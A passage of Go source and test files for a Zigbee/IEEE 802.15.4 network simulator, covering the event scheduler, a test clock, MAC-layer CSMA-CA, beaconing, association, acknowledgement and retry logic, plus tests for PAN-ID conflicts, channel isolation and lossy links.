		t.Fatalf("joined = %d/%d", s.Joined, s.Nodes)
	}
	if s.Forwarded == 0 {
		t.Fatal("routers forwarded nothing")
	}
	if s.Readings == 0 {
		t.Fatal("no readings reached the coordinator")
	}
}

func TestPANConflictResolution(t *testing.T) {
	// Two coordinators boot on the same (channel, PAN): beacons cross,
	// the higher extended address rebinds, children follow their parent.
	topo := Topology{Nodes: []NodeSpec{
		{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 0x1234},
		{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 0x1234},
		{Role: RoleEndDevice, Parent: 0, Channel: 14, PAN: 0x1234},
		{Role: RoleEndDevice, Parent: 1, Channel: 14, PAN: 0x1234},
	}}
	nw, err := New(topo, Config{Seed: 7})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(30 * time.Second)
	s := nw.Stats()
	if s.PANConflicts == 0 {
		t.Fatal("no PAN conflict detected")
	}
	c0, c1 := nw.Node(0), nw.Node(1)
	if c0.PAN == c1.PAN {
		t.Fatalf("conflict unresolved: both coordinators on PAN %#04x", c0.PAN)
	}
	if c0.PAN != 0x1234 {
		t.Fatalf("lower-ext coordinator moved to %#04x; the higher extended address should rebind", c0.PAN)
	}
	if got := nw.Node(3).PAN; got != c1.PAN {
		t.Fatalf("child of rebound coordinator on PAN %#04x, parent on %#04x", got, c1.PAN)
	}
	if got := nw.Node(2).PAN; got != c0.PAN {
		t.Fatalf("child of staying coordinator on PAN %#04x, parent on %#04x", got, c0.PAN)
	}
}

func TestMultiChannelCoexistence(t *testing.T) {
	// Two PANs on different channels never exchange or corrupt frames.
	topo := Topology{Nodes: []NodeSpec{
		{Role: RoleCoordinator, Parent: -1, Channel: 14, PAN: 0x1111},
		{Role: RoleCoordinator, Parent: -1, Channel: 20, PAN: 0x2222},
		{Role: RoleEndDevice, Parent: 0, Channel: 14, PAN: 0x1111},
		{Role: RoleEndDevice, Parent: 1, Channel: 20, PAN: 0x2222},
	}}
	nw, err := New(topo, Config{Seed: 11})
	if err != nil {
		t.Fatal(err)
	}
	var on14, on20 uint64
	nw.Tap(14, func(fc FrameCapture) {
		on14++
		if fc.Src == 1 || fc.Src == 3 {
			t.Errorf("channel-20 node %d captured on channel 14", fc.Src)
		}
	})
	nw.Tap(20, func(fc FrameCapture) { on20++ })
	nw.Run(20 * time.Second)
	s := nw.Stats()
	if s.Joined != 4 {
		t.Fatalf("joined = %d, want 4", s.Joined)
	}
	if s.PANConflicts != 0 {
		t.Fatal("cross-channel PANs reported a conflict")
	}
	if on14 == 0 || on20 == 0 {
		t.Fatalf("captures: ch14=%d ch20=%d, want both > 0", on14, on20)
	}
	if on14+on20 != s.Frames {
		t.Fatalf("tap total %d != frames %d", on14+on20, s.Frames)
	}
}

func TestLossyLinksEraseFrames(t *testing.T) {
	// Near the receiver sensitivity cliff the erasure model must bite
	// and the MAC must keep the mesh alive through retries.
	nw, err := New(Star(5), Config{Seed: 9, SNRdB: 2.0})
	if err != nil {
		t.Fatal(err)
	}
	nw.Run(60 * time.Second)
	s := nw.Stats()
	if s.Erasures == 0 {
		t.Fatal("no erasures at 2 dB SNR")
	}
	if s.Readings == 0 {
		t.Fatal("no readings survived retries at 2 dB SNR")
	}
}

func TestObserverStreamsCaptures(t *testing.T) {
	nw, err := New(Star(3), Config{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	o := nw.Observe(DefaultChannel, 4096)
	done := make(chan uint64)
	go func() {
		var count uint64
		var lastSeq uint64
		for fc := range o.C() {
			count++
			if fc.Seq <= lastSeq {
				t.Errorf("capture seq %d not strictly increasing after %d", fc.Seq, lastSeq)
				break
			}
			lastSeq = fc.Seq
		}
		done <- count
	}()
	nw.Run(20 * time.Second)
	nw.CloseObservers()
	count := <-done
	if count != nw.Stats().Frames {
		t.Fatalf("observer saw %d captures, network sent %d frames", count, nw.Stats().Frames)
	}
}

func TestRegisterHealthDegradesOnStalledObserver(t *testing.T) {
	nw, err := New(Star(3), Config{Seed: 1, StallAfter: time.Millisecond})
	if err != nil {
		t.Fatal(err)
	}
	reg := obs.NewRegistry()
	h := obs.NewHealth(reg)
	nw.RegisterHealth(h)

	if snap := h.Check(); snap.Status != "ok" {
		t.Fatalf("initial status = %s, want ok", snap.Status)
	}

	// One-slot observer nobody drains: the event loop blocks on the
	// second capture send.
	nw.Observe(DefaultChannel, 1)
	ran := make(chan struct{})
	go func() {
		nw.Run(20 * time.Second)
		close(ran)
	}()
	deadline := time.After(5 * time.Second)
	for {
		time.Sleep(2 * time.Millisecond)
		snap := h.Check()
		snap = h.Check() // probe pushes; pushed state lands next evaluation
		var sim obs.ComponentHealth
		for _, c := range snap.Components {
			if c.Name == "sim" {
				sim = c
			}
		}
		if sim.Status == "degraded" {
			if !strings.Contains(sim.Detail, "stalled") {
				t.Fatalf("degraded detail = %q, want mention of a stall", sim.Detail)
			}
			break
		}
		select {
		case <-deadline:
			t.Fatal("health never degraded while an observer send was blocked")
		default:
		}
	}

	// Drain the stuck observer so the run can finish.
	go func() {
		for _, list := range nw.observers {
			for _, o := range list {
				for range o.C() {
				}
			}
		}
	}()
	<-ran
	nw.CloseObservers() // lets the draining goroutine exit
	if snap := h.Check(); snap.Status != "ok" {
		snap = h.Check()
		if snap.Status != "ok" {
			t.Fatalf("status after drain = %s, want ok", snap.Status)
		}
	}
}
