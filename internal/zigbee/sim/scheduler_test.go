package sim

import (
	"testing"
	"time"
)

func TestSchedulerOrdersByTime(t *testing.T) {
	s := NewScheduler()
	var got []int
	s.At(30*time.Millisecond, func() { got = append(got, 3) })
	s.At(10*time.Millisecond, func() { got = append(got, 1) })
	s.At(20*time.Millisecond, func() { got = append(got, 2) })
	s.RunUntil(time.Second)
	if len(got) != 3 || got[0] != 1 || got[1] != 2 || got[2] != 3 {
		t.Fatalf("execution order = %v, want [1 2 3]", got)
	}
	if s.Now() != time.Second {
		t.Fatalf("Now() = %v after RunUntil(1s)", s.Now())
	}
}

func TestSchedulerTieBreaksByInsertion(t *testing.T) {
	s := NewScheduler()
	var got []int
	for i := 0; i < 100; i++ {
		i := i
		s.At(5*time.Millisecond, func() { got = append(got, i) })
	}
	s.RunUntil(5 * time.Millisecond)
	for i, v := range got {
		if v != i {
			t.Fatalf("tie-broken order[%d] = %d, want insertion order", i, v)
		}
	}
}

func TestSchedulerClampsPastEvents(t *testing.T) {
	s := NewScheduler()
	s.At(10*time.Millisecond, func() {})
	s.RunUntil(10 * time.Millisecond)
	fired := time.Duration(-1)
	s.At(time.Millisecond, func() { fired = s.Now() }) // in the past: clamps to now
	s.RunUntil(10 * time.Millisecond)
	if fired != 10*time.Millisecond {
		t.Fatalf("past event fired at %v, want clamp to 10ms", fired)
	}
}

func TestSchedulerEventsScheduleEvents(t *testing.T) {
	s := NewScheduler()
	var at []time.Duration
	var chain func()
	chain = func() {
		at = append(at, s.Now())
		if len(at) < 5 {
			s.After(10*time.Millisecond, chain)
		}
	}
	s.After(10*time.Millisecond, chain)
	s.RunUntil(time.Second)
	if len(at) != 5 {
		t.Fatalf("chain ran %d times, want 5", len(at))
	}
	for i, v := range at {
		if want := time.Duration(i+1) * 10 * time.Millisecond; v != want {
			t.Fatalf("chain[%d] at %v, want %v", i, v, want)
		}
	}
}

// TestSchedulerBatchSplitInvariance is the scheduler-level core of the
// determinism contract: RunUntil(t) must execute the identical sequence
// regardless of how the interval is split into batches.
func TestSchedulerBatchSplitInvariance(t *testing.T) {
	build := func() (*Scheduler, *[]time.Duration) {
		s := NewScheduler()
		var trace []time.Duration
		var chain func()
		chain = func() {
			trace = append(trace, s.Now())
			s.After(7*time.Millisecond, chain)
		}
		s.After(0, chain)
		return s, &trace
	}

	oneShot, oneTrace := build()
	oneShot.RunUntil(time.Second)

	batched, batchedTrace := build()
	for t := 13 * time.Millisecond; t < time.Second; t += 13 * time.Millisecond {
		batched.RunUntil(t)
	}
	batched.RunUntil(time.Second)

	if len(*oneTrace) != len(*batchedTrace) {
		t.Fatalf("one-shot executed %d events, batched %d", len(*oneTrace), len(*batchedTrace))
	}
	for i := range *oneTrace {
		if (*oneTrace)[i] != (*batchedTrace)[i] {
			t.Fatalf("event %d at %v one-shot vs %v batched", i, (*oneTrace)[i], (*batchedTrace)[i])
		}
	}
}

func TestSchedulerStepAndDrain(t *testing.T) {
	s := NewScheduler()
	ran := 0
	for i := 0; i < 4; i++ {
		s.After(time.Duration(i)*time.Millisecond, func() { ran++ })
	}
	if !s.Step() {
		t.Fatal("Step returned false with pending events")
	}
	if ran != 1 {
		t.Fatalf("ran = %d after one Step", ran)
	}
	s.Drain() // discards, never executes
	if ran != 1 {
		t.Fatalf("ran = %d after Drain, want still 1", ran)
	}
	if s.Len() != 0 {
		t.Fatalf("Len = %d after Drain", s.Len())
	}
	if s.Step() {
		t.Fatal("Step returned true on an empty queue")
	}
}

func TestSchedulerHighWaterMarks(t *testing.T) {
	s := NewScheduler()
	for i := 0; i < 10; i++ {
		s.After(time.Duration(i)*time.Millisecond, func() {})
	}
	if s.MaxDepth() != 10 {
		t.Fatalf("MaxDepth = %d, want 10", s.MaxDepth())
	}
	s.RunUntil(time.Second)
	if s.MaxDepth() != 10 {
		t.Fatalf("MaxDepth = %d after run, want sticky 10", s.MaxDepth())
	}
	if s.Executed() != 10 {
		t.Fatalf("Executed = %d, want 10", s.Executed())
	}
	if !s.noteLag(5 * time.Millisecond) {
		t.Fatal("first noteLag should be a new high-water mark")
	}
	if s.noteLag(2 * time.Millisecond) {
		t.Fatal("smaller lag should not be a new high-water mark")
	}
	if s.MaxLag() != 5*time.Millisecond {
		t.Fatalf("MaxLag = %v, want 5ms", s.MaxLag())
	}
}

func TestSchedulerPanicsOnNilFunc(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("At(nil) did not panic")
		}
	}()
	NewScheduler().At(0, nil)
}
