package sim

import (
	"time"

	"wazabee/internal/ieee802154"
)

// frameKind classifies a transmission for metrics and capture records.
type frameKind uint8

const (
	kindBeacon frameKind = iota
	kindBeaconRequest
	kindAssocRequest
	kindAssocResponse
	kindData
	kindAck
)

// String implements fmt.Stringer, doubling as the metric label value.
func (k frameKind) String() string {
	switch k {
	case kindBeacon:
		return "beacon"
	case kindBeaconRequest:
		return "beacon_request"
	case kindAssocRequest:
		return "assoc_request"
	case kindAssocResponse:
		return "assoc_response"
	case kindData:
		return "data"
	case kindAck:
		return "ack"
	default:
		return "unknown"
	}
}

// targetMode selects how a transmission's recipients are resolved at
// delivery time.
type targetMode uint8

const (
	// targetNode delivers to one node by simulator index — the MAC
	// unicasts (data, acks, association traffic). The frame still
	// carries real short addresses; the index is the simulator's
	// stand-in for address resolution.
	targetNode targetMode = iota
	// targetParent delivers a broadcast beacon request to the sender's
	// RF neighborhood: its intended parent, when join-capable.
	targetParent
	// targetBeaconAudience delivers a beacon to the sender's topology
	// children (scanning ones collect it, joined ones track PAN
	// migrations) and to every co-channel coordinator (PAN-ID conflict
	// detection).
	targetBeaconAudience
)

// transmission is one frame in the air.
type transmission struct {
	src     int
	channel int
	kind    frameKind
	frame   *ieee802154.MACFrame
	psdu    []byte // encoded once; immutable after txStart
	mode    targetMode
	to      int // recipient node index for targetNode

	seq        uint64 // global capture sequence, assigned at txStart
	start, end time.Duration
	collided   bool
	needAck    bool

	// destOwner is the cell where the frame's receiver lives — the only
	// cell in which an overlap corrupts this frame. In every other cell
	// the transmission contributes carrier (CCA defers to it) and
	// interferes with frames received *there*, but traffic far from this
	// frame's receiver cannot corrupt it: the capture effect of a strong
	// nearby signal over distant interferers.
	destOwner int
}

// air is one spatial-reuse collision domain: the carrier-sense
// neighborhood of one join-capable node (its "cell"). A transmission
// occupies the cell of its sender's parent (where the uplink receiver
// listens) and — when the sender is itself join-capable — the sender's
// own cell, so its children sense the channel busy. Two PANs that share
// a channel are assumed outside each other's carrier-sense range but
// inside beacon-detection range, which is exactly the regime PAN-ID
// conflict resolution exists for.
type air struct {
	busyUntil time.Duration
	active    []*transmission
}

// busy reports whether the cell's carrier is sensed busy at t.
func (a *air) busy(t time.Duration) bool {
	return t < a.busyUntil
}

// add registers a transmission starting now in the cell owned by owner.
// An overlapping pair corrupts a frame only when the shared cell is that
// frame's destination cell — interference is judged at the receiver.
func (a *air) add(owner int, tx *transmission) {
	for _, other := range a.active {
		if owner == other.destOwner {
			other.collided = true
		}
		if owner == tx.destOwner {
			tx.collided = true
		}
	}
	a.active = append(a.active, tx)
	if tx.end > a.busyUntil {
		a.busyUntil = tx.end
	}
}

// remove deregisters a finished transmission.
func (a *air) remove(tx *transmission) {
	for i, other := range a.active {
		if other == tx {
			last := len(a.active) - 1
			a.active[i] = a.active[last]
			a.active[last] = nil
			a.active = a.active[:last]
			return
		}
	}
}
