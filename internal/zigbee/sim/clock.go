package sim

import (
	"sync"
	"time"
)

// WallClock abstracts wall time for the Pacer, so real-time pacing can
// be driven deterministically in tests via ManualClock.
type WallClock interface {
	// Now returns the current wall time.
	Now() time.Time
	// After returns a channel that delivers the time once d has elapsed.
	After(d time.Duration) <-chan time.Time
}

// systemClock is the real wall clock.
type systemClock struct{}

func (systemClock) Now() time.Time                         { return time.Now() }
func (systemClock) After(d time.Duration) <-chan time.Time { return time.After(d) }

// SystemClock returns the real wall clock.
func SystemClock() WallClock { return systemClock{} }

// ManualClock is a test clock: time stands still until Advance moves it,
// firing any timers that come due. It lets pacing tests replace sleeps
// with explicit clock control.
type ManualClock struct {
	mu         sync.Mutex
	armedMore  *sync.Cond
	now        time.Time
	timers     []*manualTimer
	armedTotal int
}

type manualTimer struct {
	at time.Time
	ch chan time.Time
}

// NewManualClock returns a manual clock starting at an arbitrary fixed
// instant.
func NewManualClock() *ManualClock {
	c := &ManualClock{now: time.Unix(1_700_000_000, 0)}
	c.armedMore = sync.NewCond(&c.mu)
	return c
}

// Now returns the manual clock's current instant.
func (c *ManualClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.now
}

// After arms a timer d from now. Already-due timers (d <= 0) fire
// immediately.
func (c *ManualClock) After(d time.Duration) <-chan time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	t := &manualTimer{at: c.now.Add(d), ch: make(chan time.Time, 1)}
	if d <= 0 {
		t.ch <- c.now
	} else {
		c.timers = append(c.timers, t)
	}
	c.armedTotal++
	c.armedMore.Broadcast()
	return t.ch
}

// Advance moves the clock forward by d, firing every timer that comes
// due (in arming order; the Pacer only ever has one outstanding).
func (c *ManualClock) Advance(d time.Duration) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
	kept := c.timers[:0]
	for _, t := range c.timers {
		if !t.at.After(c.now) {
			t.ch <- c.now
		} else {
			kept = append(kept, t)
		}
	}
	c.timers = kept
}

// AwaitTimers blocks until total timers have been armed since the clock
// was created — the synchronisation point tests use before Advance, so
// "the pacer is waiting on its next deadline" never needs a sleep.
func (c *ManualClock) AwaitTimers(total int) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for c.armedTotal < total {
		c.armedMore.Wait()
	}
}
