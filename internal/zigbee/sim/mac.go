package sim

import (
	"fmt"
	"time"

	"wazabee/internal/ieee802154"
	"wazabee/internal/obs"
	"wazabee/internal/radio"
)

// MAC timing not covered by the ieee802154 constants.
const (
	// assocRespDelay stands in for the indirect-transmission poll of
	// the standard's association sequence: the coordinator answers a
	// request with a direct response after this delay.
	assocRespDelay = 2 * time.Millisecond
	// assocRespWait approximates macResponseWaitTime: how long a joiner
	// waits for the association response before rescanning.
	assocRespWait = 500 * time.Millisecond
	// scanRetryBase is the first rescan backoff; it doubles per failed
	// scan up to scanRetryCap.
	scanRetryBase = 100 * time.Millisecond
	scanRetryCap  = 5 * time.Second
)

// ---------------------------------------------------------------------
// Periodic behaviours

// beaconLoop emits one beacon and reschedules itself — the 2-second
// cadence of the acceptance scenario. Routers start their loop when
// they join.
func (nw *Network) beaconLoop(n *node) {
	if n.state == stateJoined {
		n.seq++
		frame := ieee802154.NewBeacon(n.seq, n.pan, n.short)
		nw.enqueueTx(n, &outgoing{kind: kindBeacon, frame: frame, mode: targetBeaconAudience})
	}
	nw.sched.After(nw.cfg.BeaconInterval, func() { nw.beaconLoop(n) })
}

// dataLoop emits one sensor reading towards the node's parent and
// reschedules itself.
func (nw *Network) dataLoop(n *node) {
	if n.state == stateJoined {
		n.reading++
		n.seq++
		frame := ieee802154.NewDataFrame(n.seq, n.pan, n.parentShort, n.short, sensorPayload(n.reading, 0), true)
		nw.enqueueTx(n, &outgoing{kind: kindData, frame: frame, mode: targetNode, to: n.parentID, needAck: true})
	}
	nw.sched.After(nw.cfg.DataInterval, func() { nw.dataLoop(n) })
}

// sensorPayload encodes a reading the way the live sensor does: a tag
// octet, the big-endian value and a hop count routers increment while
// forwarding.
func sensorPayload(reading uint16, hops uint8) []byte {
	return []byte{0x77, byte(reading >> 8), byte(reading), hops}
}

// ---------------------------------------------------------------------
// Join state machine

// startScan begins an active scan: broadcast a beacon request, collect
// beacons until the scan window closes.
func (nw *Network) startScan(n *node) {
	if n.state == stateJoined {
		return
	}
	n.state = stateScanning
	n.joinGen++
	n.heard = n.heard[:0]
	n.seq++
	frame := ieee802154.NewBeaconRequest(n.seq)
	nw.enqueueTx(n, &outgoing{kind: kindBeaconRequest, frame: frame, mode: targetParent})
	gen := n.joinGen
	nw.sched.After(nw.cfg.ScanDuration, func() { nw.scanEnd(n, gen) })
}

// scanEnd closes the scan window: pick a parent from the collected
// beacons (the intended topology parent wins; ties break on the lowest
// node index) and associate, or back off and rescan.
func (nw *Network) scanEnd(n *node, gen uint64) {
	if n.state != stateScanning || n.joinGen != gen {
		return
	}
	if len(n.heard) == 0 {
		nw.rescan(n)
		return
	}
	best := n.heard[0]
	for _, b := range n.heard[1:] {
		if b.src == n.spec.Parent {
			best = b
			break
		}
		if best.src != n.spec.Parent && b.src < best.src {
			best = b
		}
	}
	n.parentID = best.src
	n.parentShort = best.short
	n.pan = best.pan
	n.state = stateWaitAssoc
	n.seq++
	capability := byte(0x88) // RX on when idle, allocate address
	if n.spec.Role == RoleRouter {
		capability = 0x8e // + FFD, mains powered
	}
	frame := ieee802154.NewAssociationRequest(n.seq, n.pan, n.parentShort, capability)
	nw.enqueueTx(n, &outgoing{kind: kindAssocRequest, frame: frame, mode: targetNode, to: n.parentID, needAck: true})
}

// rescan backs off exponentially and starts another scan.
func (nw *Network) rescan(n *node) {
	if n.state == stateJoined {
		return
	}
	n.state = stateIdle
	n.joinGen++
	backoff := scanRetryBase << n.scanRetries
	if backoff > scanRetryCap {
		backoff = scanRetryCap
	}
	if n.scanRetries < 16 {
		n.scanRetries++
	}
	nw.sched.After(backoff+nw.jitter(n, scanRetryBase), func() { nw.startScan(n) })
}

// completeJoin finalises an association on the joiner's side.
func (nw *Network) completeJoin(n *node, assigned uint16) {
	n.short = assigned
	n.state = stateJoined
	n.joinGen++
	n.scanRetries = 0
	nw.stats.Joins++
	nw.stats.Joined++
	nw.cJoins.Inc()
	if t := nw.tel; t != nil {
		t.noteJoin(n, nw.sched.Now())
	}
	nw.noteJoinedGauge()
	nw.sched.After(nw.jitter(n, nw.cfg.DataInterval), func() { nw.dataLoop(n) })
	if n.spec.Role == RoleRouter {
		n.permitJoin = true
		nw.allocNext[n.id] = 0 // unused; allocation is per root
		nw.sched.After(nw.jitter(n, nw.cfg.BeaconInterval), func() { nw.beaconLoop(n) })
	}
}

// allocShort hands out the next free short address of the root
// coordinator's PAN — the simulator's stand-in for the distributed
// Cskip scheme, centralised for uniqueness.
func (nw *Network) allocShort(root int) uint16 {
	next := nw.allocNext[root]
	if next == 0 {
		next = 1
	}
	for next == 0x0000 || next >= ieee802154.NoShortAddress {
		next++ // wrapped: skip reserved values (exhaustion reuses low space)
	}
	nw.allocNext[root] = next + 1
	return next
}

// ---------------------------------------------------------------------
// CSMA-CA transmit path

// enqueueTx queues a frame on the node's single radio and starts the
// CSMA-CA transaction when the radio is idle.
func (nw *Network) enqueueTx(n *node, out *outgoing) {
	psdu, err := out.frame.Encode()
	if err != nil {
		// Frames are built by this package; an encode failure is a bug,
		// not a runtime condition. Drop loudly via the failure counter.
		nw.cCCAFail.Inc()
		return
	}
	out.psdu = psdu
	n.queue = append(n.queue, out)
	nw.processQueue(n)
}

// processQueue starts the next queued transmission when the radio is
// idle.
func (nw *Network) processQueue(n *node) {
	if n.txBusy || len(n.queue) == 0 {
		return
	}
	out := n.queue[0]
	copy(n.queue, n.queue[1:])
	n.queue[len(n.queue)-1] = nil
	n.queue = n.queue[:len(n.queue)-1]
	n.txBusy = true
	out.be = ieee802154.MinBE
	out.ncb = 0
	nw.csmaBackoff(n, out)
}

// csmaBackoff draws a backoff and schedules the clear-channel
// assessment.
func (nw *Network) csmaBackoff(n *node, out *outgoing) {
	slots := n.rng.Intn(1 << out.be)
	nw.stats.Backoffs++
	nw.cBackoffs.Inc()
	if t := nw.tel; t != nil {
		t.nodes[n.id].backoffs++
	}
	nw.sched.After(time.Duration(slots)*ieee802154.UnitBackoffPeriod, func() { nw.cca(n, out) })
}

// cca performs the clear-channel assessment: busy carriers re-enter the
// backoff loop, a clear carrier transmits after the turnaround time. The
// node's own radio counts as a carrier — a single half-duplex transceiver
// cannot pass CCA while committed to an acknowledgement it has yet to
// finish transmitting.
func (nw *Network) cca(n *node, out *outgoing) {
	now := nw.sched.Now()
	selfBusy := now < n.radioBusyUntil
	if t := nw.tel; t != nil && !selfBusy {
		// The radio spent the trailing aCCATime measuring channel power.
		// A self-busy radio is mid-transmission and never measured.
		t.radioCharge(n.id, now, ieee802154.CCADuration, RadioCCA)
	}
	busy := selfBusy
	for _, cell := range nw.cellsOf(n) {
		if busy {
			break
		}
		if cell != nil && cell.busy(now) {
			busy = true
		}
	}
	if busy {
		out.ncb++
		if out.ncb > ieee802154.MaxCSMABackoffs {
			nw.stats.CCAFailures++
			nw.cCCAFail.Inc()
			if t := nw.tel; t != nil {
				t.nodes[n.id].ccaFailures++
			}
			nw.txFailed(n, out)
			n.txBusy = false
			nw.processQueue(n)
			return
		}
		if out.be < ieee802154.MaxBE {
			out.be++
		}
		nw.csmaBackoff(n, out)
		return
	}
	if t := nw.tel; t != nil {
		t.radioTransition(n.id, now, RadioTurnaround)
	}
	nw.sched.After(ieee802154.TurnaroundTime, func() { nw.txStart(n, out, false) })
}

// txStart puts the frame on the air. acks bypass CSMA entirely
// (immediate=true): the standard transmits them a turnaround after the
// frame they acknowledge.
func (nw *Network) txStart(n *node, out *outgoing, immediate bool) {
	nw.frameSeq++
	now := nw.sched.Now()
	tx := &transmission{
		src:       n.id,
		channel:   n.spec.Channel,
		kind:      out.kind,
		frame:     out.frame,
		psdu:      out.psdu,
		mode:      out.mode,
		to:        out.to,
		seq:       nw.frameSeq,
		start:     now,
		end:       now + ieee802154.FrameDuration(len(out.psdu)),
		needAck:   out.needAck,
		destOwner: nw.destCellOwner(n, out),
	}
	for _, owner := range nw.cellOwners(n) {
		if owner >= 0 {
			nw.cell(owner).add(owner, tx)
		}
	}
	if tx.end > n.radioBusyUntil {
		n.radioBusyUntil = tx.end
	}
	if t := nw.tel; t != nil {
		t.radioTransition(n.id, now, RadioTX)
	}
	nw.noteFrame(tx)
	nw.sched.At(tx.end, func() { nw.txEnd(n, out, tx, immediate) })
}

// noteFrame accounts one transmission.
func (nw *Network) noteFrame(tx *transmission) {
	nw.stats.Frames++
	nw.cFrames[tx.kind].Inc()
	if t := nw.tel; t != nil && tx.src >= 0 {
		// Intruder transmissions (src < 0) have no node ledger; the
		// attacker's cost is out of scope, the victims' is not.
		t.nodes[tx.src].tx++
	}
	switch tx.kind {
	case kindBeacon:
		nw.stats.Beacons++
	case kindData:
		nw.stats.DataFrames++
	case kindAck:
		nw.stats.Acks++
	default:
		nw.stats.Commands++
	}
}

// txEnd takes the frame off the air, reports it to the channel's
// observers and delivers it to its recipients.
func (nw *Network) txEnd(n *node, out *outgoing, tx *transmission, immediate bool) {
	for _, cell := range nw.cellsOf(n) {
		if cell != nil {
			cell.remove(tx)
		}
	}
	now := nw.sched.Now()
	if t := nw.tel; t != nil {
		t.radioTransition(n.id, now, RadioIdle)
		if t.trace != nil {
			t.trace.frameSlice(tx.src, tx.kind.String(), tx.start, tx.end-tx.start, tx.seq, len(tx.psdu))
		}
	}
	if tx.collided {
		nw.stats.Collisions++
		nw.cCollisions.Inc()
		if t := nw.tel; t != nil {
			t.nodes[tx.src].collisions++
			for _, rxID := range nw.recipients(tx) {
				t.link(tx.src, rxID).colls++
			}
			if t.trace != nil {
				t.trace.instant(tx.src, "collision", now, tx.seq)
			}
		}
	}
	nw.publishCapture(tx)

	if !tx.collided {
		link := radio.Link{SNRdB: nw.cfg.SNRdB}
		f := nw.freq[tx.channel]
		for _, rxID := range nw.recipients(tx) {
			rx := nw.nodes[rxID]
			if rx.radioBusyUntil > tx.start {
				// Half-duplex: the receiver was transmitting during some
				// of the frame and never demodulated it.
				nw.stats.DeafMisses++
				nw.cDeaf.Inc()
				if t := nw.tel; t != nil {
					t.nodes[rxID].deaf++
					t.link(tx.src, rxID).deaf++
					if t.trace != nil {
						t.trace.instant(rxID, "deaf", now, tx.seq)
					}
				}
				continue
			}
			outcome, err := nw.ch.Deliver(radio.FrameSpec{
				PSDULen:   len(tx.psdu),
				TxFreqMHz: f,
				RxFreqMHz: f,
				Link:      link,
				Seed:      deliverySeed(nw.cfg.Seed, tx.seq, rxID),
			})
			if err != nil {
				// The channel was validated at New and the spec is
				// well-formed by construction; a Deliver error is a bug.
				panic(err)
			}
			if !outcome.Delivered() {
				nw.stats.Erasures++
				nw.cErasures.Inc()
				if t := nw.tel; t != nil {
					t.nodes[rxID].erasures++
					t.link(tx.src, rxID).erasures++
					if t.trace != nil {
						t.trace.instant(rxID, "erasure", now, tx.seq)
					}
				}
				continue
			}
			if t := nw.tel; t != nil {
				t.nodes[rxID].rx++
				t.link(tx.src, rxID).delivered++
				// The receiver's radio demodulated the whole frame: charge
				// its airtime to RX before the handler commits the radio to
				// anything else (an acknowledgement turnaround).
				t.radioCharge(rxID, now, tx.end-tx.start, RadioRX)
			}
			nw.handleFrame(rx, tx)
		}
	}

	if immediate {
		// Acks do not hold the radio's CSMA transaction slot.
		return
	}
	if tx.needAck {
		n.awaiting = out
		gen := n.ackGen
		nw.sched.After(ieee802154.AckWaitDuration+ieee802154.FrameDuration(5), func() { nw.onAckTimeout(n, gen) })
		return
	}
	n.txBusy = false
	nw.processQueue(n)
}

// recipients resolves a transmission's delivery set in deterministic
// order. Interest-filtered propagation: the simulator delivers a frame
// only to nodes whose MAC would act on it (the addressed node, the
// scan neighborhood, beacon audiences), while the per-cell airs keep
// contention physical. Observers still see every frame.
func (nw *Network) recipients(tx *transmission) []int {
	switch tx.mode {
	case targetNode:
		if tx.to < 0 || tx.to >= len(nw.nodes) {
			// Addressed outside the topology — an acknowledgement or
			// response to an intruder. It spent airtime and energy; no
			// node receives it.
			return nil
		}
		return []int{tx.to}
	case targetParent:
		parent := nw.nodes[tx.src].spec.Parent
		if parent < 0 {
			return nil
		}
		p := nw.nodes[parent]
		if p.state == stateJoined && p.permitJoin {
			return []int{parent}
		}
		return nil
	case targetBeaconAudience:
		kids := nw.topoKids[tx.src]
		coords := nw.coordsOn[tx.channel]
		audience := make([]int, 0, len(kids)+len(coords))
		audience = append(audience, kids...)
		for _, c := range coords {
			if c != tx.src {
				audience = append(audience, c)
			}
		}
		return audience
	}
	return nil
}

// ---------------------------------------------------------------------
// Receive paths

// handleFrame dispatches one delivered frame on the receiving node.
func (nw *Network) handleFrame(r *node, tx *transmission) {
	switch tx.kind {
	case kindAck:
		nw.handleAck(r, tx)
	case kindBeacon:
		nw.handleBeacon(r, tx)
	case kindBeaconRequest:
		nw.handleBeaconRequest(r, tx)
	case kindAssocRequest:
		nw.sendAck(r, tx)
		nw.handleAssocRequest(r, tx)
	case kindAssocResponse:
		nw.sendAck(r, tx)
		nw.handleAssocResponse(r, tx)
	case kindData:
		nw.sendAck(r, tx)
		nw.handleData(r, tx)
	}
}

// sendAck transmits the immediate acknowledgement for a received frame:
// one turnaround after the frame, no CSMA, no queueing. The radio is
// committed from this instant — marking it busy through the ack's end
// keeps the node's own CSMA path from passing CCA into its ack.
func (nw *Network) sendAck(r *node, tx *transmission) {
	if !tx.needAck {
		return
	}
	ack := &outgoing{kind: kindAck, frame: ieee802154.NewAck(tx.frame.Seq), mode: targetNode, to: tx.src}
	psdu, err := ack.frame.Encode()
	if err != nil {
		return
	}
	ack.psdu = psdu
	ackEnd := nw.sched.Now() + ieee802154.TurnaroundTime + ieee802154.FrameDuration(len(psdu))
	if ackEnd > r.radioBusyUntil {
		r.radioBusyUntil = ackEnd
	}
	if t := nw.tel; t != nil {
		t.radioTransition(r.id, nw.sched.Now(), RadioTurnaround)
	}
	nw.sched.After(ieee802154.TurnaroundTime, func() { nw.txStart(r, ack, true) })
}

// handleAck completes the sender's pending acknowledged transmission.
func (nw *Network) handleAck(r *node, tx *transmission) {
	out := r.awaiting
	if out == nil || out.frame.Seq != tx.frame.Seq {
		return
	}
	r.awaiting = nil
	r.ackGen++
	nw.txAcked(r, out)
	r.txBusy = false
	nw.processQueue(r)
}

// onAckTimeout retries or abandons an unacknowledged transmission.
func (nw *Network) onAckTimeout(n *node, gen uint64) {
	if n.ackGen != gen || n.awaiting == nil {
		return
	}
	out := n.awaiting
	n.awaiting = nil
	n.ackGen++
	out.retries++
	if out.retries <= ieee802154.MaxFrameRetries {
		nw.stats.Retries++
		nw.cRetries.Inc()
		if t := nw.tel; t != nil {
			t.nodes[n.id].retries++
		}
		out.be = ieee802154.MinBE
		out.ncb = 0
		nw.csmaBackoff(n, out)
		return
	}
